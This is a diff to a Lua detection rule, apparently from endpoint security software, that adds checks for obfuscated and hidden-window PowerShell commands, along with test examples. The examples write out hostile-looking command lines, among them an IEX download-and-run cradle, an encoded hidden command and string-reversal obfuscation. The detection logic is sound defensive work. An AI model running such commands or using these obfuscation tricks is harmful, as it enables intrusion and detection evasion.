@@ -8,7 +8,9 @@ local trusted = require "kaiseki.detect.trusted"
 -- How management agents get a script past quoting; of the sample's tree it is another matter.
 local ENCODED = "an encoded command"
 local SCRIPT = "a script from a user's folder"
+local DISGUISED, HIDDEN = "a disguised command", "a command without a window"
 local SUBJECTS = {
+    [DISGUISED] = "disguised-command", [HIDDEN] = "windowless-command",
     [ENCODED] = "encoded-command", [SCRIPT] = "user-script", ["what it downloads"] = "downloaded-commands",
     ["a hidden command"] = "hidden-command", ["a download"] = "download",
 }
@@ -45,6 +47,27 @@ local function is_hidden(each)
     return value ~= nil and (value:lower():find "^h" ~= nil or value == "1")
 end
 
+-- Words turned around and put together when they run ('daoL'[-1..-4] -join ''), made of numbers, cut by backticks or
+-- put in order by numbers: nobody writes so but to be found by no one.
+local function is_disguised(text)
+    local turned = text:find "%[%s*%-1%s*%.%.%s*%-" ~= nil
+    local numbers = text:find("[char]", 1, true) ~= nil and select(2, text:gsub("%[char%]%s*%(?%d", "")) >= 4
+    local ordered = text:find "{%d+}{%d+}{%d+}[^|;]-%-f%f[%A]" ~= nil
+    local cut = select(2, text:gsub("%a`%a", "")) >= 4
+    return turned or numbers or ordered or cut or text:find("-bxor", 1, true) ~= nil
+end
+
+-- Whether the policy on scripts is set aside.
+local function is_unrestricted(each)
+    local value = option_begins(each, "executionpolicy", 2) or option_begins(each, "ep", 2)
+    return value ~= nil and (value:lower() == "bypass" or value:lower() == "unrestricted")
+end
+
+-- Whether the command is in the line itself, not in a script's file.
+local function is_inline(each)
+    return option_begins(each, "file", 1) == nil and each.folded:find "%.ps1%f[%W]" == nil
+end
+
 -- A script of a user's place or another drive, given with -File or first.
 local function script_of(each, case)
     for i = 2, #each.words do
@@ -67,8 +90,12 @@ local function suspicion(each, case)
         return ENCODED
     end
     if is_hidden(each) and (runs or downloads) then return "a hidden command" end
+    if is_disguised(each.folded) then return DISGUISED end
     if downloads and places.has_url(each.folded) and places.in_user_place(each.text, case) then
         return "a download"
+    end
+    if is_hidden(each) and is_inline(each) and (is_unrestricted(each) or places.in_user_place(each.text, case)) then
+        return HIDDEN
     end
     return script_of(each, case) and SCRIPT or nil
 end
@@ -76,7 +103,7 @@ end
 -- Installed programs and their agents work so, and so do administrators from afar.
 local function excuse(finding, case)
     local process, what = finding.process, finding.key
-    if what ~= ENCODED and what ~= SCRIPT then return nil end
+    if what ~= ENCODED and what ~= SCRIPT and what ~= HIDDEN then return nil end
     for _, event in ipairs(finding.events) do
         local child = lineage.started(event)
         if child and child.in_tree then return nil end
@@ -100,7 +127,9 @@ rule {
     on_event = function(event, case)
         local what = command.first(event.child.command_line, function(each) return suspicion(each, case) end)
         if not what then return end
-        case:finding { process = lineage.requester(event.process), key = what, event = event }
+        -- Agents and setup programs, too, let nobody see their windows.
+        case:finding { process = lineage.requester(event.process), key = what, event = event,
+                       severity = what == HIDDEN and "medium" or nil }
     end,
     excuse = excuse,
     finding = function(finding)
@@ -108,6 +137,13 @@ rule {
     end,
     examples = {
         match = {
+            { operation = "Process Create", path = [[C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe]],
+              ["process.name"] = "a.exe",
+              ["child.command_line"] =
+                  [[powershell -w hidden -c $a=[IO.File]::('txeTllAdaeR'[-1..-11] -join '')('C:\Users\x\b.bat')]] },
+            { operation = "Process Create", path = [[C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe]],
+              ["process.name"] = "a.exe",
+              ["child.command_line"] = "powershell -w 1 -ep Unrestricted -nop function a($b){-split($b)}" },
             { operation = "Process Create", path = [[C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe]],
               ["process.name"] = "a.exe",
               ["child.command_line"] = "powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA" },
@@ -123,6 +159,10 @@ rule {
                   [[cmd /c powershell "IEX (New-Object Net.WebClient).DownloadString('http://x')"]] },
         },
         no_match = {
+            { operation = "Process Create", path = [[C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe]],
+              ["process.name"] = "agent.exe",
+              ["child.command_line"] =
+                  [[powershell -w hidden -ep bypass -Command "& 'C:\Program Files\Agent\run.ps1'"]] },
             { operation = "Process Create", path = [[C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe]],
               ["process.name"] = "explorer.exe",
               ["child.command_line"] = [[powershell -ExecutionPolicy Bypass -File "C:\Program Files\Tool\check.ps1"]] },
